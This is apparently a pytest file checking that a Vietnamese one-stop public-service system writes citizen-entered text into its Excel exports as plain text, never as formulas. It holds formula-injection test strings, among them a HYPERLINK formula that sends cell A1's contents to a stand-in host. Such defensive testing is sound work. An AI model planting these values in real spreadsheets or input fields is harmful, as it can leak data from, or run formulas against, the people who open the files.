"""Issue 12, item 5: exports never execute.

Dossiers, a procedure, an agency and a PAKN carry text that a spreadsheet would take for a formula (=, +, -, @ at
the start), entered where people really enter it: an organisation's name and an address at the counter, a
procedure name from the catalogue import, an agency's name in the admin, a PAKN's title on the public form. Every
Excel export that shows them is opened with openpyxl: no cell holds a formula, and each text is there as typed,
marked as text (quote prefix) so that editing the cell in Excel does not turn it into one either.
"""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from motcua.dossiers import lifecycle
from motcua.dossiers.tests.fixtures import make_procedure, vn
from motcua.feedback import lifecycle as pakn
from motcua.feedback.tests.helpers import sender

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://x.example/?q="&A1,"Xem hồ sơ")'
ADDRESS = '=HYPERLINK("http://x","y")'
ORGANISATION = "+1+1 Công ty"
PERSON = "-Nguyễn Văn An"
PROCEDURE = "-2+3 Cấp phiếu lý lịch tư pháp"
AGENCY = "@SUM(A1) Sở Tư pháp"
TITLE = "=1+1 cán bộ đòi thêm giấy tờ"
TAB = "\t=2+2 phường Việt Trì"
MARCH = {"ky": "thang", "nam": 2026, "thang": 3}


@pytest.fixture
def hostile(province, people):
    """Two dossiers received in March 2026 and a PAKN, all carrying formula-like text."""
    justice = province["justice"]
    justice.name = AGENCY
    justice.save()
    version = make_procedure("9.000999", PROCEDURE, 5, "working_days", [justice])
    applicants = [
        {
            "applicant_kind": "organisation",
            "applicant_name": ORGANISATION,
            "applicant_address": ADDRESS,
            "applicant_phone": "0912345678",
            "organisation_representative": "Trần Thị Bình",
        },
        {
            "applicant_name": PERSON,
            "applicant_id_number": "025090001234",
            "applicant_phone": "0912345678",
            "applicant_address": TAB,
        },
    ]
    for day, applicant in zip((2, 3), applicants):
        at = vn(f"2026-03-0{day} 09:00")
        dossier = lifecycle.register(
            actor=people["desk"],
            version=version,
            receiving_agency=province["centre"],
            applicant=applicant,
            channel="direct",
            at=at,
        )
        lifecycle.receive(
            dossier.pk, actor=people["desk"], received_lines=[line.pk for line in version.documents.all()], at=at
        )
    pakn.submit({**sender(receiving_agency=justice), "title": TITLE, "sender_address": LINK}, at=vn("2026-03-04 10:00"))


def opened(response):
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Disposition"].startswith("attachment;")
    return load_workbook(io.BytesIO(response.content))


def cells(book):
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_never_executes(book, *shown: str):
    """No formula anywhere (our exports write none); each text `shown` appears in a cell as typed."""
    everything = cells(book)
    formulas = [(cell.parent.title, cell.coordinate, cell.value) for cell in everything if cell.data_type == "f"]
    assert formulas == []
    for text in shown:
        holding = [cell for cell in everything if isinstance(cell.value, str) and text in cell.value]
        assert holding, f"{text!r} is not in the workbook"
        for cell in holding:
            if cell.value.startswith(("=", "+", "-", "@", "\t")):
                assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)


def test_the_register_of_dossiers_writes_names_and_addresses_as_text(client, people, hostile):
    client.force_login(people["desk"])
    book = opened(client.get(reverse("office:register"), {"tu": "2026-03-01", "den": "2026-03-31", "xuat": "xlsx"}))
    assert_never_executes(book, ORGANISATION, PERSON, PROCEDURE, AGENCY, ADDRESS, TAB)
    names = [cell.value for cell in cells(book) if cell.column == 4]
    assert ORGANISATION in names and PERSON in names  # the whole cell, exactly as typed


@pytest.mark.parametrize(
    "params, shown",
    [
        ({"dinh-dang": "xlsx"}, [AGENCY]),
        ({"dinh-dang": "xlsx", "loai": "ho-so", "chi-so": "received"}, [ORGANISATION, PERSON, PROCEDURE]),
        ({"dinh-dang": "xlsx", "loai": "pakn", "chi-so": "pakn"}, [TITLE]),
        ({"dinh-dang": "xlsx", "loai": "thu-tuc", "chi-so": "in_competence"}, [PROCEDURE]),
    ],
)
def test_the_dashboard_exports_write_citizens_text_as_text(client, people, hostile, params, shown):
    client.force_login(people["monitor"])
    url = reverse("dashboard:home") if "loai" not in params else reverse("dashboard:list")
    assert_never_executes(opened(client.get(url, {**MARCH, **params})), *shown)


def test_the_reform_report_writes_the_agency_name_as_text(client, people, hostile):
    client.force_login(people["head"])
    book = opened(
        client.get(reverse("indicators:report"), {"co_quan": "000.00.10.H44", "ky": "2026-03", "xuat": "xlsx"})
    )
    assert_never_executes(book, AGENCY)


def test_the_cell_writer_keeps_numbers_and_drops_what_a_workbook_cannot_hold():
    from openpyxl import Workbook

    from motcua.dossiers.printing.sheets import put

    sheet = Workbook().active
    assert put(sheet, 1, 1, -5).value == -5 and put(sheet, 1, 1, -5).data_type == "n"
    cell = put(sheet, 2, 1, "=1+1\x00\x07")
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True)
    plain = put(sheet, 3, 1, "Nguyễn Văn An")
    assert (plain.value, plain.data_type, plain.quotePrefix) == ("Nguyễn Văn An", "s", False)
